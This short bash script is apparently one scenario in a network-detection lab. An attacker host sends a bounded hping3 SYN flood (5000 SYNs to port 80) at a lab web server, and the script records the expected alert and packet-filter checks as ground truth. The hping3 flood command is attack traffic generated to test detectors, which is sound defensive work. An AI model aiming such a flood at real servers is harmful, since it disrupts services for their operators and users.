#!/usr/bin/env bash
# synflood: hping3 sends 5000 SYNs to the web server's port 80 at 5000 per second (bounded by count
# and time). The source is the attacker's own address (no spoofing: every packet stays in the lab).
# requires: hping3:hping3 python3:python3
source "$(dirname "$0")/../lab.sh"
lab_start "$@"
lab_web
lab_host attacker "$ATTACKER"

lab_capture_start
LAB_CMD_TIMEOUT=15 lab_exec attacker hping3 -q -S -p 80 -i u200 -c 5000 "$WEB" > "$LAB_DIR/hping3.log" 2>&1 || true
lab_capture_stop
grep -q '5000 packets transmitted' "$LAB_DIR/hping3.log" || lab_die "hping3: $(cat "$LAB_DIR/hping3.log")"

lab_truth <<JSON
{
  "scenario": "synflood",
  "description": "hping3 -S -p 80 -i u200 -c 5000 from the attacker to the web server",
  "hosts": { "attacker": "$ATTACKER", "web": "$WEB" },
  "attacker": "$ATTACKER",
  "victim": "$WEB",
  "protocol": "tcp",
  "facts": { "syns": 5000, "dstPort": 80, "ratePerSecond": 5000 },
  "alerts": [ { "type": "syn_flood", "src": "$ATTACKER", "dst": "$WEB", "dstPort": 80 } ],
  "maxSeverity": null,
  "checks": [
    { "name": "SYNs", "filter": "ip.src == $ATTACKER && tcp.dstport == 80 && tcp.flags.syn == 1 && tcp.flags.ack == 0", "count": 5000 },
    { "name": "no completed handshakes", "filter": "ip.src == $ATTACKER && tcp.dstport == 80 && tcp.flags.ack == 1 && tcp.flags.reset == 0", "count": 0 }
  ]
}
JSON
